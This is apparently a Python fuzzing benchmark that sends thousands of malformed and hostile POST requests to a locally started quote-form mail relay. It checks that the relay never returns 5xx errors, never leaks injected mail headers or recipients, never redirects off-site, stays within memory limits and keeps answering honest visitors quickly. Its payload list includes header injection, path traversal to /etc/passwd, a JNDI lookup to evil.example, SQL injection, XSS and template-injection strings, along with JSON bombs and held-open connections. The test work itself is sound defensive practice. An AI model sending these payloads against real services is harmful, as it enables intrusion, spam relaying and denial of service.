"""Posts what attackers post, thousands of times, and looks at what came of it: `python -m bench hostile [--posts 20000]`.

No answer may be a 5xx, no mail may have a header or a recipient that is not ours, memory must stay bounded, and honest
visitors must be answered within a second meanwhile.
"""

from __future__ import annotations

import argparse
import email
import http.client
import json
import os
import random
import re
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from email.policy import default
from pathlib import Path
from typing import Any

from bench import results as book
from bench.postoffice import free_port

OWNER = "owner@cor.example"
LEADS = re.compile(r"(?:\.\./)?(?:quote/)?thank-you/\?id=Q-[2-9A-Z]{4}-[2-9A-Z]{4}|quote/|/(?![/\\])\S*")
"""Where an answer may lead: the thank-you page, or a path of the site that `_next` named."""
ANSWERED = {"date", "content-length", "content-type", "location", "cache-control", "connection", "retry-after", "vary", "transfer-encoding"}
FIELDS = ("name", "email", "phone", "company", "message", "employees", "sites", "audit", "addons", "travel.to", "travel.km", "request", "shown_total",
          "idempotency_key", "_gotcha", "_next", "_elapsed", "altcha", "_replyto", "_subject", "_cc", "_bcc", "to", "from", "report", "on")  # fmt: skip
NASTY = (
    "", " ", "\0", "\r\nBcc: victim@example.com\r\n\r\nbody", "a@b.ca\nBcc: victim@example.com", "ann@example.ca,victim@example.com",
    '"victim@example.com" <ann@example.ca>', "=?utf-8?q?=0d=0aBcc:victim@example.com?=", "%0d%0aBcc:victim@example.com", "\u2028Bcc: victim@example.com",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "//evil.example/x", "/\\evil.example", "https://evil.example", "javascript:alert(1)",
    "<script>alert(1)</script>", "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}", "${jndi:ldap://evil.example/a}", "' OR 1=1; DROP TABLE quotes;--",
    "\ud800", "\U0001f600" * 300, "\u202e\u0000\ufeff", "A" * 20_000, "9" * 5000, "-1", "1e309", "NaN", "0x10", "1_000", "١٢", "12.5", "null", "[]", "{}",
    "certification", "ann@example.ca", "12", "true", "2026-11-24", "9999-99-99", "=cmd|'/c calc'!A1", "\x1b[2J", "%s%s%s%n", "\N{COMBINING ACUTE ACCENT}" * 2000,
)  # fmt: skip


def text(pace: random.Random) -> str:
    """Return a value that somebody might try."""
    if pace.random() < 0.8:  # noqa: PLR2004
        return pace.choice(NASTY)
    return "".join(chr(pace.choice((pace.randrange(32, 127), pace.randrange(0xD7FF)))) for _ in range(pace.randrange(60)))


def pairs(pace: random.Random) -> list[tuple[str, str]]:
    """Return fields; in half of the cases the ones that must be right are, so that the bad ones get further."""
    found = [(pace.choice(FIELDS) if pace.random() < 0.95 else text(pace), text(pace)) for _ in range(pace.randrange(12))]  # noqa: PLR2004
    if pace.random() < 0.5:  # noqa: PLR2004
        found = [pair for pair in found if pair[0] not in {"name", "email"}]
        found += [("name", text(pace) or "Ann"), ("email", f"ann{pace.randrange(10**9)}@example.ca")]
    return found


def escaped(value: str) -> bytes:
    """Return a value for an urlencoded body, half characters and all."""
    return "".join(f"%{byte:02x}" for byte in value.encode("utf-8", "surrogatepass")).encode()


def as_urlencoded(pace: random.Random) -> tuple[str, bytes]:
    """An urlencoded body, sometimes with bytes that are no text."""
    body = b"&".join(escaped(name) + b"=" + escaped(value) for name, value in pairs(pace))
    if pace.random() < 0.2:  # noqa: PLR2004
        body += pace.choice((b"&%", b"&=&=&&", b"&name=%ff%fe", b"&" * 5000, b"&a=1" * 400, os.urandom(200)))
    return "application/x-www-form-urlencoded", body


def nested(pace: random.Random, depth: int) -> Any:
    """Some JSON."""
    if depth <= 0 or pace.random() < 0.4:  # noqa: PLR2004
        return pace.choice((None, True, -1, 10**400, 1.5, text(pace), [], {}))
    if pace.random() < 0.5:  # noqa: PLR2004
        return [nested(pace, depth - 1) for _ in range(pace.randrange(4))]
    return {pace.choice(FIELDS): nested(pace, depth - 1) for _ in range(pace.randrange(4))}


def as_json(pace: random.Random) -> tuple[str, bytes]:
    """A JSON body: broken, deep, huge, or of the wrong kinds."""
    if pace.random() < 0.2:  # noqa: PLR2004
        bombs = (
            b"[" * 100_000, b'{"a":' * 100_000, b'{"n":' + b"9" * 100_000 + b"}", b'{"name":NaN}', b"\xff\xfe{\x00}", b"", b"null", b"[]", b'"x"',
            b'{"request":' + b"[" * 5000 + b"]" * 5000 + b"}", b'{"travel":' + b'{"to":' * 200 + b"1" + b"}" * 201, b'{"name":"\\ud800","email":"ann@example.ca"}',
            b'{"name":"a","name":"b","email":"ann@example.ca"}', b'{"addons":[' + b'"x",' * 20_000 + b'"x"]}',
        )  # fmt: skip
        return "application/json", pace.choice(bombs)
    found: dict[str, Any] = dict(pairs(pace))
    if pace.random() < 0.6:  # noqa: PLR2004
        found[pace.choice(FIELDS)] = nested(pace, 5)
    return "application/json", json.dumps(found).encode()


def as_multipart(pace: random.Random) -> tuple[str, bytes]:
    """A multipart body: odd file names, odd headers, cut short."""
    edge = pace.choice(("x", "----WebKitFormBoundary7", "é", "a b", "x" * 300, ""))
    parts = []
    for name, value in pairs(pace):
        head = f'Content-Disposition: form-data; name="{name}"'
        if name == "report" or pace.random() < 0.1:  # noqa: PLR2004
            head += f'; filename="{text(pace)[:300]}"\r\nContent-Type: {pace.choice(("application/pdf", "text/html", "x", ""))}'
            value = pace.choice(("%PDF-1.7\n" + value, value, "MZ" + value, "%PDF-" + "0" * 100_000))  # noqa: PLW2901 -- the attack is on this field
        if pace.random() < 0.05:  # noqa: PLR2004
            head += pace.choice(("\r\nContent-Transfer-Encoding: base64", "\r\nX: " + "y" * 9000, "\r\n" * 3, "\nno-colon"))
        parts.append(f"--{edge}\r\n{head}\r\n\r\n{value}\r\n".encode("utf-8", "surrogatepass"))
    body = b"".join(parts) + f"--{edge}--\r\n".encode()
    if pace.random() < 0.3:  # noqa: PLR2004
        body = body[: pace.randrange(len(body) + 1)]
    if pace.random() < 0.05:  # noqa: PLR2004
        body = b"--" * 50_000 + body
    return f"multipart/form-data; boundary={pace.choice((edge, edge, edge, 'other', ''))}", body


def as_other(pace: random.Random) -> tuple[str, bytes]:
    """A body of some other kind."""
    kinds = (
        "text/plain",
        "",
        "application/xml",
        "multipart/mixed; boundary=x",
        "application/json; charset=utf-7",
        "a" * 5000,
        "multipart/form-data",
    )
    return pace.choice(kinds), text(pace).encode("utf-8", "surrogatepass")


MAKERS = (as_urlencoded, as_urlencoded, as_json, as_json, as_multipart, as_multipart, as_other)


def hostile(pace: random.Random) -> tuple[str, dict[str, str], bytes]:
    """Return a path, headers and a body."""
    kind, body = pace.choice(MAKERS)(pace)
    headers = {"Content-Type": kind.encode("utf-8", "replace").decode("latin-1")}
    headers["Accept"] = pace.choice(("application/json", "text/html", "*/*", "", "a" * 3000, "application/json;q=9", ";;;,,,"))
    if pace.random() < 0.3:  # noqa: PLR2004
        headers[pace.choice(("Origin", "Referer", "X-Forwarded-For", "X-Requested-With", "User-Agent", "Content-Encoding", "Range"))] = (
            pace.choice(("null", "https://evil.example", "XMLHttpRequest", "gzip", "é\x7f", "bytes=0-", "1.2.3.4, 5.6.7.8", "a" * 4000))
        )
    return pace.choice(("/quote", "/quote", "/quote", "/quote/", "/estimate", "/f/anything")), headers, body


class Attack:
    """The relay under attack, and what is seen of it."""

    def __init__(self, folder: Path) -> None:
        self.port = free_port()
        self.folder = folder
        self.statuses: Counter[int] = Counter()
        self.broken: list[str] = []
        self.honest: list[float] = []
        self.stop = threading.Event()
        self._lock = threading.Lock()
        environment = {
            **os.environ, "QUOTE_STORE": str(folder / "q.sqlite3"), "QUOTE_MAILDIR": str(folder / "mail"), "QUOTE_TO": OWNER, "QUOTE_FROM": "quotes@cor.example",
            "QUOTE_RATE_ADDRESS": "100000000", "QUOTE_RATE_ALL": "100000000", "QUOTE_SITE": str(folder),
        }  # fmt: skip
        self.log = (folder / "log").open("wb")
        command = [sys.executable, "-m", "relay", "serve", "--port", str(self.port)]
        self.child = subprocess.Popen(command, env=environment, stdout=self.log, stderr=self.log)  # noqa: S603

    def ready(self) -> None:
        """Wait until it answers."""
        for _ in range(400):
            try:
                socket.create_connection(("127.0.0.1", self.port), 1).close()
            except OSError:
                time.sleep(0.05)
            else:
                return
        raise RuntimeError("the relay did not start")

    def memory(self, what: str = "VmHWM") -> float:
        """Return the relay's memory in MB: `VmHWM` at its highest, `VmRSS` now."""
        status = Path(f"/proc/{self.child.pid}/status").read_text("utf-8")
        return int(next(line for line in status.splitlines() if line.startswith(what)).split()[1]) / 1024

    def attacker(self, seed: int, posts: int) -> None:
        """Post so many times."""
        pace = random.Random(seed)  # noqa: S311 - a seed, to find a fault again
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        for number in range(posts):
            path, headers, body = hostile(pace)
            try:
                connection.request("POST", path, body, {name: value for name, value in headers.items() if "\n" not in value})
                answer = connection.getresponse()
                answer.read()
                status = answer.status
                self.look(f"seed {seed} post {number}", answer)
            except (http.client.HTTPException, OSError, ValueError) as error:
                connection.close()
                if isinstance(error, ValueError):
                    continue  # our own client would not send it
                status = 0  # cut off: allowed only for a body that is too large
            with self._lock:
                self.statuses[status] += 1
                if status >= 500 or (status == 0 and len(body) < 250_000):  # noqa: PLR2004
                    self.broken.append(f"seed {seed} post {number}: {status} {path} {headers} {body[:200]!r}")

    def look(self, post: str, answer: http.client.HTTPResponse) -> None:
        """Note an answer that leads to another site, or has a header that only a visitor's words can have made."""
        where = answer.getheader("Location") or "quote/"
        if not LEADS.fullmatch(where):
            self.broken.append(f"{post}: leads to {where}")
        if strange := {name.lower() for name, _ in answer.getheaders()} - ANSWERED:
            self.broken.append(f"{post}: answered with {strange}")

    def visitor(self) -> None:
        """Send honest requests all the while, and time them."""
        number = 0
        while not self.stop.wait(0.2):
            number += 1
            body = json.dumps(
                {
                    "name": "Ann",
                    "email": f"honest{number}@example.ca",
                    "message": f"Honest {number}",
                    "employees": "12",
                    "audit": "certification",
                    "_gotcha": "",
                }
            )
            start = time.perf_counter()
            connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
            connection.request("POST", "/quote", body, {"Content-Type": "application/json", "Accept": "application/json"})
            answer = connection.getresponse()
            if answer.status != 200:  # noqa: PLR2004
                self.broken.append(f"honest request {number}: {answer.status}")
            answer.read()
            connection.close()
            self.honest.append(time.perf_counter() - start)

    def dawdler(self) -> None:
        """Hold connections open with bodies that never end."""
        held = []
        for _ in range(40):
            one = socket.create_connection(("127.0.0.1", self.port), 5)
            one.sendall(
                b"POST /quote HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\r\nname="
            )
            held.append(one)
        while not self.stop.wait(0.5):
            for one in held:
                try:
                    one.sendall(b"a")
                except OSError:
                    continue
        for one in held:
            one.close()

    def mails(self) -> list[str]:
        """Return what is wrong with the mails: a header or a recipient that is not ours."""
        allowed = {"from", "to", "subject", "date", "message-id", "auto-submitted", "x-auto-response-suppress", "reply-to", "list-id", "mime-version", "content-type",
                   "content-transfer-encoding", "content-disposition"}  # fmt: skip
        wrong = []
        for file in (self.folder / "mail" / "new").glob("*.cor"):
            mail = email.message_from_bytes(file.read_bytes(), policy=default)
            if strange := {name.lower() for name in mail} - allowed:
                wrong.append(f"{file.name}: {strange}")
            to = [address.addr_spec for address in mail["To"].addresses]
            if (
                len(to) != 1
                or (to != [OWNER] and to != [mail["To"]])
                or "victim" in str(mail["To"]) + str(mail["Reply-To"]) + str(mail["Subject"])
            ):
                wrong.append(f"{file.name}: to {to}")
        return wrong


def campaign(posts: int, *, threads: int = 4, seed: int = 1) -> dict[str, Any]:
    """Attack; return what was seen."""
    with tempfile.TemporaryDirectory() as name:
        attack = Attack(Path(name))
        try:
            attack.ready()
            before = attack.memory("VmRSS")
            others = [threading.Thread(target=attack.visitor), threading.Thread(target=attack.dawdler)]
            attackers = [threading.Thread(target=attack.attacker, args=(seed * 100 + n, posts // threads)) for n in range(threads)]
            start = time.monotonic()
            for thread in (*others, *attackers):
                thread.start()
            for thread in attackers:
                thread.join()
            seconds = time.monotonic() - start
            attack.stop.set()
            for thread in others:
                thread.join()
            end = time.monotonic() + 120  # the queue may be long: look at every mail
            while time.monotonic() < end and _waiting(attack):
                time.sleep(0.2)
            highest, after = attack.memory(), attack.memory("VmRSS")
            wrong = attack.mails()
            count = sum(1 for _ in (Path(name) / "mail" / "new").glob("*.cor"))
        finally:
            attack.stop.set()
            attack.child.terminate()
            attack.child.wait(20)
    return {
        "posts": sum(attack.statuses.values()), "statuses": {str(k): v for k, v in sorted(attack.statuses.items())}, "faults": attack.broken[:20],
        "mails": count, "wrong_mails": wrong[:20], "honest": len(attack.honest), "honest_median_s": round(statistics.median(attack.honest), 3),
        "honest_slowest_s": round(max(attack.honest), 3), "memory_mb": {"start": round(before), "highest": round(highest), "end": round(after)}, "seconds": round(seconds),
    }  # fmt: skip


def _waiting(attack: Attack) -> bool:
    import sqlite3

    with sqlite3.connect(attack.folder / "q.sqlite3", timeout=10) as connection:
        return bool(connection.execute("SELECT count(*) FROM mails WHERE state IN ('waiting', 'sending')").fetchone()[0])


def sound(result: dict[str, Any]) -> bool:
    """Say whether the relay held."""
    return not result["faults"] and not result["wrong_mails"] and result["honest_slowest_s"] < 1 and result["memory_mb"]["highest"] < 300  # noqa: PLR2004


def main(arguments: list[str] | None = None) -> int:
    """Run it, print and keep what was seen; 1 where the relay did not hold."""
    parser = argparse.ArgumentParser(prog="python -m bench hostile", description=__doc__)
    parser.add_argument("--posts", type=int, default=20_000)
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args(arguments)
    result = campaign(options.posts, seed=options.seed)
    print(json.dumps(result, indent=1))
    book.merge("hostile", result)
    return 0 if sound(result) else 1
